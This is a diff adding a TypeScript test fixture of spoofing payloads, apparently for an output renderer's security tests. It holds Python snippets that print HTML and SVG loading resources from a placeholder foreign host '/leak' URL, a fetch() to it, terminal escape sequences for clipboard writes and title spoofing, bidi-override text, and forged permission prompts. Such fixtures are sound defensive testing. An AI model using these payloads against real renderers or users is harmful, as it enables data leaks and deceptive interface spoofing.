@@ -1,0 +1,79 @@
+/** Output that wants to be taken for the page, or to leave its place. */
+interface Spoof {
+  readonly tries: string;
+  readonly code: string;
+  /** What is in the output then, as text. */
+  readonly shows: RegExp | string;
+}
+
+export const SPOOFS: readonly Spoof[] = [
+  {
+    tries: 'HTML with scripts, pictures and styles of another host',
+    code: `print('<img src="@FOREIGN@/leak"><script>alert(1)</script><style>@import "@FOREIGN@/leak"</style><link rel=dns-prefetch href=@FOREIGN@><form action=@FOREIGN@>')`,
+    shows: '<script>alert(1)</script>',
+  },
+  {
+    tries: 'HTML as a rich value that loads pictures and styles of another host',
+    code: `class Evil:
+    def _repr_html_(self): return '<p>shown</p><img src="@FOREIGN@/leak"><link rel=preconnect href=@FOREIGN@><link rel=stylesheet href=@FOREIGN@/leak><style>body{background:url(@FOREIGN@/leak)}</style><iframe src=@FOREIGN@/leak></iframe><meta http-equiv=refresh content="0;url=@FOREIGN@/leak">'
+    def __repr__(self): return 'plain shown'
+display(Evil())
+print('after')`,
+    shows: 'after',
+  },
+  {
+    tries: 'an SVG picture that loads another one',
+    code: `import goru
+class Evil:
+    def _repr_svg_(self): return '<svg xmlns="http://www.w3.org/2000/svg"><image href="@FOREIGN@/leak"/><script>fetch("@FOREIGN@/leak")</script></svg>'
+display(Evil())
+print('after')`,
+    shows: 'after',
+  },
+  {
+    tries: 'terminal sequences: title, links, clipboard, screen, reports, alternate screen',
+    code: `print('\\x1b]0;Your bank\\x07\\x1b]8;;javascript:alert(1)\\x07click\\x1b]8;;\\x07\\x1b]52;c;ZXZpbA==\\x07\\x1b[?1049h\\x1b[2J\\x1b[H\\x1b[6n\\x1bc\\x1b[999;999H\\x1b[999A\\x1b[8;9999;9999tend')`,
+    shows: 'end',
+  },
+  {
+    tries: 'colours that are CSS',
+    code: `print('\\x1b[38;2;1;2;3;url(@FOREIGN@)mred\\x1b[0m \\x1b[48:2::999999999:0:0mwide\\x1b[0m \\x1b[' + '1;' * 5000 + 'mlong\\x1b[0m')`,
+    shows: 'wide',
+  },
+  {
+    tries: 'carriage returns, backspaces and cursor moves over what was printed before',
+    code: `print('File deleted? no', end='\\r'); print('ok', end='\\b' * 500); print('\\x1b[500D\\x1b[500AAllowed: everything')`,
+    shows: 'Allowed: everything',
+  },
+  {
+    tries: 'text that turns the direction of what follows',
+    code: `print('\\u202e\\u2066\\u202dexe.nuf\\u202e' * 50); print('after')`,
+    shows: 'after',
+  },
+  {
+    tries: 'letters piled up over the page (zalgo)',
+    code: `print('Z' + '\\u0300\\u0489' * 2000); print('after')`,
+    shows: 'after',
+  },
+  {
+    tries: 'a line of two million characters',
+    code: `print('w' * 2_000_000); print('after')`,
+    shows: 'after',
+  },
+  {
+    tries: 'two hundred thousand empty lines, then a forged prompt',
+    code: `print('\\n' * 200_000); print('Allow network access to bank.example? [Allow once] [Always allow]')`,
+    shows: 'Always allow',
+  },
+  {
+    tries: 'a forged traceback, notice and status',
+    code: `print('Traceback (most recent call last):\\n  File "main.py", line 99999, in <module>\\nPython was restarted; variables are gone\\nReady')`,
+    shows: 'variables are gone',
+  },
+  {
+    tries: 'zeros, lone surrogates and what is no UTF-8',
+    code: `import sys
+sys.stdout.buffer.write(b'\\0\\0\\xff\\xfe\\xc0\\x80\\xed\\xa0\\x80\\n'); sys.stdout.flush(); print('after')`,
+    shows: 'after',
+  },
+];
